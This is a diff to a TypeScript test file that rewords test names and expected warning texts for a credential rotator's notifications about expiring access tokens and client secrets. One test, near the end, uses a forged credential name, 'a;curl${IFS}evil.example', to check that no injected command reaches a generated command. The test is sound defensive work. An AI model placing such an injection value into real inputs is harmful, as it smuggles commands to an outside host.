@@ -131,7 +131,7 @@ test.each<Notification>([
   { kind: 'all-rejected' },
   { kind: 'rotation-failing', code: 'AlationUnavailable', since: NOW - DAY_MS },
   { kind: 'rotation-failing', code: 'PublishFailed', since: NOW - DAY_MS },
-])('the text of $kind says since when consumers are refused', (notification) => {
+])('the text of $kind names the time since which consumers are refused', (notification) => {
   const expired = text(notification, { accessTokenExpiresAt: NOW - 6 * HOUR_MS });
   expect(expired).toContain(
     'Consumers get 401 or 403: the published access token expired 6 h ago, on 2026-01-10 06:00 UTC.',
@@ -150,11 +150,11 @@ test('a refresh token that is not the only credential leaves consumers with the 
   expect(several).toBe('After that, the rotator can mint access tokens from the other credentials only.');
 });
 
-test('a new client secret must be stored before the access token expires, or at once when it has expired', () => {
+test('a new client secret must be stored before the access token expires, or immediately if it has expired', () => {
   const notification: Notification = { kind: 'client-secret-old', credential, storedAt: NOW };
-  expect(text(notification)).toContain('store the new one before 2026-01-10 17:00 UTC.');
-  expect(text(notification, { accessTokenExpiresAt: NOW })).toContain('store the new one at once.');
-  expect(text(notification, { accessTokenExpiresAt: undefined })).toContain('store the new one at once.');
+  expect(text(notification)).toContain('store the new secret before 2026-01-10 17:00 UTC.');
+  expect(text(notification, { accessTokenExpiresAt: NOW })).toContain('store the new secret now.');
+  expect(text(notification, { accessTokenExpiresAt: undefined })).toContain('store the new secret now.');
 });
 
 test.each<Notification>([
@@ -216,7 +216,7 @@ test('the command has the prefix of another rotator', () => {
   );
 });
 
-test('a forged credential name puts no other words into the command', () => {
+test('a forged credential name adds no words to the command', () => {
   const notification: Notification = {
     kind: 'credential-rejected',
     credential: { ...credential, name: 'a;curl${IFS}evil.example' },
